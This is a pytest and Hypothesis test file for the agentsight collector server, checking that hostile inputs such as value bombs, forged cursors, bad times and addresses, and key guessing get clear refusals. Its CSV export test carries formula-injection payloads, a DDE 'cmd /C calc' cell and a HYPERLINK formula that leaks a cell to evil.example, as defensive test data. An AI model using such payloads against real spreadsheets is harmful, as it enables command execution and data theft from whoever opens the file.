"""Issue 16: every hostile input gets a clear 4xx, on SQLite and PostgreSQL alike.

The probes of ``hostile.py`` run here one by one against an in-process
collector of each backend (``test_whole_suite.py`` runs them all against one
``agentsight serve`` process); beside them, property tests generate each
class at the level of the function that closes it.
"""

from __future__ import annotations

import base64
import csv
import io
import ipaddress
import json
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from multidict import MultiDict

from agentsight.server import open_storage
from agentsight.server._export import export
from agentsight.server._http import _split
from agentsight.server._http._body import count_values, parse_json
from agentsight.server._http._errors import ApiError
from agentsight.server._ingest._geo import GeoResolver
from agentsight.server._ingest._time import parse_event_ts
from agentsight.server._metrics import MetricsQuery
from agentsight.server._views._params import decode_cursor, encode_cursor, parse_query
from agentsight.server.storage._metrics_sql import _date
from tests.server.collector_helpers import Collector, action, conversation, message

from . import hostile
from .hostile import FORMULA_STARTS, TIME_ZONES, call, send

pytestmark = pytest.mark.anyio
STORAGE_PROBES = [
    hostile.probe_times,
    hostile.probe_numbers,
    hostile.probe_control_characters,
    hostile.probe_geo,
    hostile.probe_forged_cursors,
    hostile.probe_odd_digits,
    hostile.probe_management_bombs,
    hostile.probe_nosniff_everywhere,
]


@pytest.mark.parametrize("probe", STORAGE_PROBES, ids=lambda p: p.__name__)
async def test_probe(stored: Collector, probe: hostile.Probe) -> None:
    """Each probe of the suite holds on either backend."""
    await probe(stored)


async def test_value_bombs(secured: Any) -> None:
    """Bodies that would build past a million values are 413 (the body path is backend-free)."""
    await hostile.probe_value_bombs(secured.collector)


# --- values a body builds ---------------------------------------------------------------


def _values(value: Any) -> int:
    """Values and keys of a decoded value, one more per empty array or object."""
    if isinstance(value, dict):
        return 1 + (not value) + sum(1 + _values(v) for v in value.values())
    if isinstance(value, list):
        return 1 + (not value) + sum(_values(v) for v in value)
    return 1


_text = st.text(alphabet=st.sampled_from(list(',:[{}]"\\ a\n\x00é😀')), max_size=6)


def _containers(inner: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.one_of(st.lists(inner, max_size=5), st.dictionaries(_text, inner, max_size=5))


_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | _text,
    _containers,
    max_leaves=40,
)


@settings(max_examples=600)
@given(value=_json, ascii_only=st.booleans(), slack=st.integers(-3, 3))
def test_count_values_decides_the_limit_exactly(value: Any, ascii_only: bool, slack: int) -> None:
    """For any JSON and any limit, 'more than the limit' is decided as the parsed value says."""
    raw = json.dumps(value, ensure_ascii=ascii_only).encode()
    limit = max(0, _values(value) + slack)
    assert (count_values(raw, limit) > limit) == (_values(value) > limit)


# --- big batches, cut into events --------------------------------------------------------

_field = st.one_of(_json, st.sampled_from(["\\ud800", "\\udc00x", "\\/d", "\\ud83d\\ude00"]))
_events = st.lists(
    st.one_of(
        st.builds(lambda t, m: {**message("c", 0, 0.0, t), "metadata": {"m": m}}, _text, _field),
        _json,
    ),
    max_size=6,
)


def _raw_body(events: list[Any], extra: dict[str, Any], escapes: bool) -> bytes:
    text = json.dumps({"schema": 1, "sent_at": "now", **extra, "events": events})
    # The sampled escapes are written out as JSON escapes, lone surrogates included.
    return (text.replace("\\\\u", "\\u").replace("\\\\/", "\\/") if escapes else text).encode()


def _outcome(parse: Any, raw: Any) -> Any:
    try:
        value, suspect = parse(raw)
    except ApiError as exc:
        return exc.status
    return value, suspect


@settings(
    max_examples=500,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(
    events=_events,
    extra=st.sampled_from([{}, {"x": 1}, {"schema": [1] * 3}, {"sent_at": "x" * 65}]),
    escapes=st.booleans(),
)
def test_big_batches_parse_as_the_whole_body_does(
    events: list[Any], extra: dict[str, Any], escapes: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Cut into events or parsed whole, a batch gives the same validation outcome."""
    monkeypatch.setattr(_split, "WHOLE_VALUES", -1)
    raw = _raw_body(events, extra, escapes)
    values = count_values(raw, 10**9)
    whole, cut = (
        _outcome(parse_json, raw),
        _outcome(lambda r: _split.parse_batch(r, values, 50), raw),
    )
    if isinstance(whole, int):
        assert cut == whole
        return
    from agentsight.server import ServerOptions
    from agentsight.server._ingest._validate import BatchRefused, Validator

    validator = Validator(ServerOptions())

    def check(body: Any, suspect: bool) -> Any:
        try:
            checked = validator.check_batch(body, unicode_suspect=suspect)
        except BatchRefused as exc:
            return str(exc)
        return checked.rejected, [(e.id, e.payload) for e in checked.events]

    assert check(*cut) == check(*whole)


def test_an_event_past_its_value_limit_is_rejected_unparsed() -> None:
    """In a big batch, an event of more than 100,000 values is rejected; the others are kept."""
    big = message("c", 0, 0.0)
    big["metadata"] = {"m": [0] * _split.MAX_EVENT_VALUES}
    good = message("c", 1, 1.0)
    raw = json.dumps({"schema": 1, "events": [big, good]}).encode()
    body, _ = _split.parse_batch(raw, count_values(raw, 10**9), 50)
    assert isinstance(body["events"][0], Exception)
    assert body["events"][1]["id"] == good["id"]


# --- forged cursors, odd digits ----------------------------------------------------------


@settings(max_examples=500)
@given(cursor=st.one_of(st.text(max_size=80), st.binary(max_size=60).map(base64.b64encode)))
def test_any_cursor_is_a_position_or_a_400(cursor: str | bytes) -> None:
    """Whatever the text, a cursor is a 64-bit position or a 400 naming the parameter."""
    text = cursor if isinstance(cursor, str) else cursor.decode()
    outcome = _outcome(lambda t: (decode_cursor("cursor", t), False), text)
    if isinstance(outcome, int):
        assert outcome == 400
        with pytest.raises(ApiError, match=r"^cursor: expected"):
            decode_cursor("cursor", text)
    else:
        assert 0 <= outcome[0] < 2**63
        assert encode_cursor(outcome[0]) == text


@given(position=st.integers(0, 2**63 - 1))
def test_every_position_round_trips(position: int) -> None:
    """Every position our pages can hand out reads back."""
    assert decode_cursor("cursor", encode_cursor(position)) == position


@settings(max_examples=500)
@given(limit=st.one_of(st.text(max_size=8), st.integers(-(10**6), 10**6).map(str)))
def test_any_limit_is_1_to_500_or_a_400(limit: str) -> None:
    """A limit is 1 to 500 written in ASCII digits, or a 400 naming it."""
    good = limit.isascii() and limit.isdigit() and len(limit) <= 3 and 1 <= int(limit) <= 500
    if good:
        assert parse_query(MultiDict(limit=limit)).limit == int(limit)
    else:
        with pytest.raises(ApiError, match=r"^limit: expected an integer from 1 to 500"):
            parse_query(MultiDict(limit=limit))


# --- times -------------------------------------------------------------------------------


@given(moment=st.datetimes(timezones=st.timezones()))
def test_event_times_are_within_the_years_every_zone_can_bucket(moment: Any) -> None:
    """Whatever the offset, an accepted event time is 1970 to 2199 in UTC, so local days exist."""
    micros = parse_event_ts(moment.isoformat().replace("+00:00", "Z"))
    if micros is not None:
        assert 0 <= micros < 7_258_118_400_000_000
        for offset_days in (-1, 0, 1):
            assert _date(micros // 86_400_000_000 + offset_days)


@given(day=st.integers(0, 2_932_900))
def test_any_stored_day_has_a_date(day: int) -> None:
    """Days of rows stored before ingest was bounded (up to 9999 and a local day more) format."""
    text = _date(day)
    assert text[:4].isdigit() or text.startswith("+10000-")


# --- rows stored before the bounds -------------------------------------------------------


async def test_rows_stored_before_the_bounds_still_read(database_url: Path | str) -> None:
    """Events of year 9999 and durations of 1e308 already stored: metrics answer in every zone."""
    from agentsight.server import ServerOptions
    from agentsight.server._ingest._validate import Validator

    storage = await open_storage(database_url)
    try:
        await storage.create_key("A", "0" * 64, "ags_…_000000", scope="admin")
        key = await storage.find_key("0" * 64)
        assert key is not None
        project_id = key.project_id
        validator = Validator(ServerOptions())
        wire = [conversation("old"), message("old", 1, 1.0)]
        wire += [{**action("old", n, 2.0), "duration_ms": 1.0} for n in (2, 3)]
        events = [validator.check_event(event) for event in wire]
        for event in events:  # as written before ingest bounded them
            event.timestamp = 253_402_300_799_999_999  # 9999-12-31T23:59:59.999999Z
            if event.type == "action":
                event.payload["duration_ms"] = 1e308
        await storage.write_batch(project_id, events)
        for zone in TIME_ZONES:
            figures = await storage.metrics(project_id, MetricsQuery(tz=zone))
            json.dumps(figures, allow_nan=False)
            assert figures["tools"][0]["avg_duration_ms"] is None, zone
            assert figures["daily"][-1]["date"] in ("9999-12-31", "+10000-01-01"), zone
        assert (await storage.list_events(project_id, "old"))[0]["timestamp"].startswith("9999")
    finally:
        await storage.aclose()


# --- formula cells -------------------------------------------------------------------------


@pytest.mark.parametrize("start", [*FORMULA_STARTS, "'", " ", "a", "{"])
async def test_csv_export_neutralises_formula_cells(stored: Collector, start: str) -> None:
    """Every text cell a spreadsheet would run starts with a quote in the CSV; others are kept."""
    tag = f"{start}cmd|' /C calc'!A0"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")' if start == "=" else tag
    cid = f"{start}cid"
    await send(
        stored,
        conversation(cid, 0, 0.0, customer_id=formula, source=tag, language=tag, name=tag),
        message(cid, 1, 1.0, content=formula),
    )
    out = io.StringIO()
    await export(stored.storage, out, fmt="csv", project="A")
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), cells
    wanted = ("'" + formula) if start in FORMULA_STARTS else formula
    assert wanted in cells and ("'" + cid if start in FORMULA_STARTS else cid) in cells


@given(text=st.text(max_size=20))
def test_any_text_cell_is_safe_and_kept(text: str) -> None:
    """A cell is the text itself, or the text after one quote when it would start a formula."""
    from agentsight.server._export import _cell

    cell = _cell(text)
    assert cell == ("'" + text if text.startswith(FORMULA_STARTS) else text)


# --- addresses -----------------------------------------------------------------------------


@settings(max_examples=300)
@given(
    text=st.one_of(
        st.text(alphabet="0123456789abcdefx.:f%/ ", max_size=24),
        st.ip_addresses().map(str),
        st.ip_addresses(v=4).map(lambda a: f"::ffff:{a}"),
    )
)
def test_only_well_formed_addresses_get_a_country(text: str) -> None:
    """An address that ipaddress refuses never gets a country; a mapped one gets its IPv4's."""
    geo = GeoResolver()
    country = geo.country(text)
    try:
        address = ipaddress.ip_address(text.strip())
    except ValueError:
        assert country is None
        return
    if isinstance(address, ipaddress.IPv6Address) and address.ipv4_mapped is not None:
        assert country == geo.country(str(address.ipv4_mapped))


# --- the rate limit behind a NAT ----------------------------------------------------------


async def test_bad_keys_from_an_address_never_lock_out_live_keys(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Past the failure budget of an address, its live keys (even one made now) still get in,
    and made-up keys are refused with at most one read of the live keys a second."""
    import anyio

    from agentsight._keys import generate_key, hash_key, redact
    from agentsight.server import RateLimit, ServerOptions

    from .helpers import run_secured

    options = ServerOptions(rate_limit=RateLimit(0.01, burst=5))  # no refill within the test
    async with run_secured(tmp_path / "nat.db", options) as secured:
        c = secured.collector
        loads = 0
        real = c.storage.live_key_hashes

        async def counted() -> frozenset[str]:
            nonlocal loads
            loads += 1
            return await real()

        monkeypatch.setattr(c.storage, "live_key_hashes", counted)

        async def made_up() -> int:
            headers = {"Authorization": f"Bearer {generate_key()}"}
            return (await call(c, "GET", "/v1/conversations", None, headers=headers))[0]

        started = time.monotonic()
        assert [await made_up() for _ in range(25)] == [401] * 5 + [429] * 20
        assert 1 <= loads <= 1 + int(time.monotonic() - started)  # at most one a second
        for project in ("A", "B", "A"):
            assert (await call(c, "GET", "/v1/conversations", project))[0] == 200
        fresh = generate_key()
        await c.storage.create_key("C", hash_key(fresh), redact(fresh), scope="admin")
        c.keys["C"] = fresh
        await anyio.sleep(1.0)  # the live keys were last read over a second ago: stale
        before = loads
        assert (await call(c, "GET", "/v1/conversations", "C"))[0] == 200
        assert (await made_up(), loads) == (429, before + 1)
